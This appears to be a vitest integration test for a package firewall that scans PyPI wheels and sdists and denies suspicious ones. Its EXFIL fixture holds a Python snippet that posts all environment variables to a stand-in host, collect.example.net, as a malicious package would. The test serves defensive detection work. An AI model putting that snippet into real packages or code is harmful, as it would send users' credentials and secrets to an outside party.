/**
 * `firewall serve --scan` in front of a PyPI index: a wheel or sdist is downloaded through the sha256 check,
 * scanned by the Python scanner, and its findings decide through the policy's `suspicious` condition, as npm
 * tarballs do. Real pip 23.0.1 (Debian) as the client, the test index as the upstream.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pipFreeze, pipInstall, venv } from '../support/pip-clients.ts';
import { startPypiIndex, type PypiIndex } from '../support/pypi-index.ts';
import { startFirewallProcess, writePolicy, type FirewallProcess } from './support.ts';

const OLD = new Date(Date.now() - 90 * 86_400_000);
const EXFIL = `import os, json, urllib.request\nurllib.request.urlopen("https://collect.example.net/x", data=json.dumps(dict(os.environ)).encode())\n`;

let index: PypiIndex;
let fw: FirewallProcess;
beforeAll(async () => {
  index = await startPypiIndex();
  index.publish({ name: 'stealer', version: '1.0.0', kinds: ['wheel'], uploadedAt: OLD, files: { 'stealer/__init__.py': EXFIL } });
  index.publish({ name: 'stealer-sd', version: '1.0.0', kinds: ['sdist'], uploadedAt: OLD, files: { 'stealer_sd/__init__.py': EXFIL } });
  index.publish({ name: 'clean-lib', version: '1.0.0', kinds: ['wheel'], uploadedAt: OLD, files: { 'clean_lib/__init__.py': 'def add(a, b):\n    return a + b\n' } });
  const policy = await writePolicy('version: 1\nrules:\n  - id: sus\n    when: { suspicious: high }\n    action: deny\n');
  fw = await startFirewallProcess({ policy, upstream: 'http://127.0.0.1:9/', args: ['--scan', '--pypi-upstream', index.simpleUrl, '--pypi-files', index.filesUrl] });
}, 60_000);
afterAll(async () => {
  await fw?.stop();
  await index?.close();
});

describe('firewall --scan: PyPI files', () => {
  it('refuses a wheel whose code posts the environment away, naming the rule; pip fails', async () => {
    const home = await venv();
    const r = await pipInstall(home, `${fw.url}/simple/`, ['stealer==1.0.0']);
    expect(r.exitCode, r.output).not.toBe(0);
    expect((await pipFreeze(home))['stealer']).toBeUndefined();
    const direct = await fetch(`${fw.url}/files/stealer/stealer-1.0.0-py3-none-any.whl`);
    expect(direct.status).toBe(403);
    expect(direct.headers.get('x-sscs-decision')).toBe('deny; rule=sus');
    // The findings are recorded for the release: the page leaves it out from now on (its only file: a 403).
    const page = await fetch(`${fw.url}/simple/stealer/`);
    expect(page.status).toBe(403);
    expect(page.headers.get('x-sscs-decision')).toBe('deny; rule=sus');
  });

  it('scans sdists too', async () => {
    const r = await fetch(`${fw.url}/files/stealer-sd/stealer_sd-1.0.0.tar.gz`);
    expect(r.status).toBe(403);
    expect(r.headers.get('x-sscs-decision')).toBe('deny; rule=sus');
  });

  it('serves a clean wheel after scanning it, and the next request from the cache without a rescan', async () => {
    const home = await venv();
    const r = await pipInstall(home, `${fw.url}/simple/`, ['clean-lib']);
    expect(r.exitCode, r.output).toBe(0);
    expect((await pipFreeze(home))['clean-lib']).toBe('1.0.0');
    const again = await fetch(`${fw.url}/files/clean-lib/clean_lib-1.0.0-py3-none-any.whl`);
    expect(again.status).toBe(200);
    expect(again.headers.get('x-sscs-decision')).toBe('allow; rule=default');
    await again.arrayBuffer();
    expect(index.requests.filter((q) => q.host === 'files' && q.path.endsWith('clean_lib-1.0.0-py3-none-any.whl')).length).toBe(1);
  });
});
